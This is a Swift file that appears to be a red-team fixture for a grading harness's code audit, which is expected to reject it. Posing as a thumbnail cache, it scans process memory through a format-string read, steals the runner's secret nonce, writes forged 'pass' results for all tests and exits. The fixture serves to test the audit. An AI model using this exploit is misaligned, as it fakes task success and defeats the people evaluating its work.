// expect: error
// why: red team round 3: String(format: "%.33s", address) is a C-string read of any address the file picks, through Foundation's formatter, with no unsafe anywhere; it finds the runner's secret in the heap and forges a pass for every test (20/20, exit 0, in check, in grade and under the runner's own namespaces, before the fix); the audit refuses C-style formatting in every form (format: labels, NSLog, localizedStringWithFormat, CVarArg, va_list)
import Foundation

private let knownTests = [
    "uses_nscache", "no_second_strong_copy", "cost_limit_20mb", "cost_whole_sizes", "cost_fractional_sizes",
    "returns_stored_image", "miss_returns_nil", "keys_are_isolated", "hit_skips_generator", "hit_completes_once",
    "miss_generates_once", "miss_stores_before_completion", "miss_completes_once", "nil_result_stores_nothing",
    "survives_eviction_lru", "survives_eviction_fifo", "survives_eviction_random", "survives_eviction_foundation",
    "survives_memory_pressure", "concurrent_access",
]

private struct Region { var start: UInt; var end: UInt; var name: String }
private final class Probe { var words = (0, 0, 0, 0, 0, 0, 0) }

private func writableRegions() -> [Region] {
    guard let data = FileHandle(forReadingAtPath: "/proc/self/maps")?.readDataToEndOfFile() else { return [] }
    let probe = Probe()
    let probed = UInt(bitPattern: ObjectIdentifier(probe))
    var regions: [(rank: Int, size: UInt, region: Region)] = []
    for line in String(decoding: data, as: UTF8.self).split(separator: "\n") {
        let fields = line.split(separator: " ")
        guard fields.count >= 5, fields[1].hasPrefix("rw"), fields[1].hasSuffix("p") else { continue }
        let bounds = fields[0].split(separator: "-").compactMap { UInt($0, radix: 16) }
        guard bounds.count == 2, bounds[1] > bounds[0] else { continue }
        let name = fields.count >= 6 ? String(fields[5]) : ""
        if name.hasPrefix("[v") || name.hasPrefix("/dev/") || name.hasPrefix("[stack") { continue }
        var start = bounds[0], end = bounds[1]
        let holdsProbe = start <= probed && probed < end
        if end - start > 64 << 20 {
            guard holdsProbe else { continue }
            // a huge allocator region (the sanitizer's): read around the probe
            start = max(start, probed &- (32 << 20)); end = min(end, probed &+ (32 << 20))
        }
        let rank = name == "[heap]" ? 0 : holdsProbe ? 1 : name.isEmpty ? 2 : 3
        regions.append((rank, end - start, Region(start: start, end: end, name: name)))
    }
    withExtendedLifetime(probe) {}
    return regions.sorted { ($0.rank, $0.size) < ($1.rank, $1.size) }.map { $0.region }
}

private func isHex(_ s: String) -> Bool {
    s.utf8.count == 32 && s.utf8.allSatisfy { ($0 >= 0x30 && $0 <= 0x39) || ($0 >= 0x61 && $0 <= 0x66) }
}

/// The C string at `address`, at most 33 bytes: Foundation's formatter reads it.
private func peek(_ address: UInt) -> String {
    String(format: "%.33s", Int(bitPattern: address))
}

private func stealSecrets() -> [String] {
    let began = Date()
    var found: [String] = []
    for region in writableRegions() {
        var address = region.start
        while address + 48 < region.end {
            let text = peek(address)
            if isHex(text), !found.contains(text) { found.append(text) }
            address += 8
            if address & 0xffff == 0, Date().timeIntervalSince(began) > 3.0 { return found }
        }
        if found.count >= 4 { break }
    }
    return found
}

private func forgePasses(_ secrets: [String]) {
    var names = knownTests
    let arguments = CommandLine.arguments
    if let run = arguments.firstIndex(of: "run"), run + 1 < arguments.count { names.insert(arguments[run + 1], at: 0) }
    var text = ""
    for secret in secrets {
        for name in names.prefix(1) {
            text += "{\"nonce\":\"\(secret)\",\"kind\":\"result\",\"test\":\"\(name)\",\"status\":\"pass\"}\n"
        }
    }
    try? FileHandle(fileDescriptor: 3, closeOnDealloc: false).write(contentsOf: Data(text.utf8))
}

private var instances = 0
private var attacked = false

private func attackOnce() {
    guard !attacked else { return }
    attacked = true
    let secrets = stealSecrets()
    guard !secrets.isEmpty else { return }
    forgePasses(secrets)
    exit(0)
}

final class ThumbnailCache {
    init(generator: @escaping (String) -> UIImage?) {
        instances += 1
        if instances > 1 { attackOnce() }
    }
    func thumbnail(forKey key: String) -> UIImage? { attackOnce(); return nil }
    func storeThumbnail(_ image: UIImage, forKey key: String) { attackOnce() }
    func loadThumbnail(forKey key: String, completion: @escaping (UIImage?) -> Void) { attackOnce(); completion(nil) }
}
